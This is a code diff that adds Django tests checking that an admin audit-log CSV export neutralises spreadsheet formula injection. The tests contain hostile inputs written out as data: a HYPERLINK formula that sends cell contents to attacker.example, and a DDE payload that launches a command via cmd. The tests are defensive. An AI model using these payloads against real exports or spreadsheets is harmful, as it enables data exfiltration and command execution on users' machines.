@@ -67,3 +67,26 @@ def test_the_audit_trail_is_read_only_in_admin_and_hidden_from_engineers(client,
 
     client.force_login(make_user("eve", role=Role.ENGINEER))
     assert client.get("/admin/audit/auditevent/export.csv").status_code == 302  # to the admin login
+
+
+def test_a_failed_login_name_typed_as_a_formula_is_exported_as_text(client, administrator):
+    hostile = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
+    client.post("/login/", {"username": hostile, "password": "wrong-password"})
+    client.force_login(administrator)
+
+    response = client.get("/admin/audit/auditevent/export.csv", {"action__exact": AuditAction.LOGIN_FAILED})
+
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert [r["user"] for r in rows] == ["'" + hostile]  # a spreadsheet shows it, never runs it
+
+
+def test_a_configuration_change_whose_text_is_a_formula_is_exported_as_text(client, administrator):
+    ScanClass.objects.create(name="@SUM(1+1)*cmd|' /C calc'!A0", period_ms=1000)
+    client.force_login(administrator)
+
+    response = client.get("/admin/auditlog/logentry/export.csv")
+
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    [row] = [r for r in rows if r["model"] == "historian.scanclass"]
+    assert row["object"] == "'@SUM(1+1)*cmd|' /C calc'!A0 (1000 ms)"
+    assert row["changes"].startswith("{")  # JSON, not a formula: left as it is
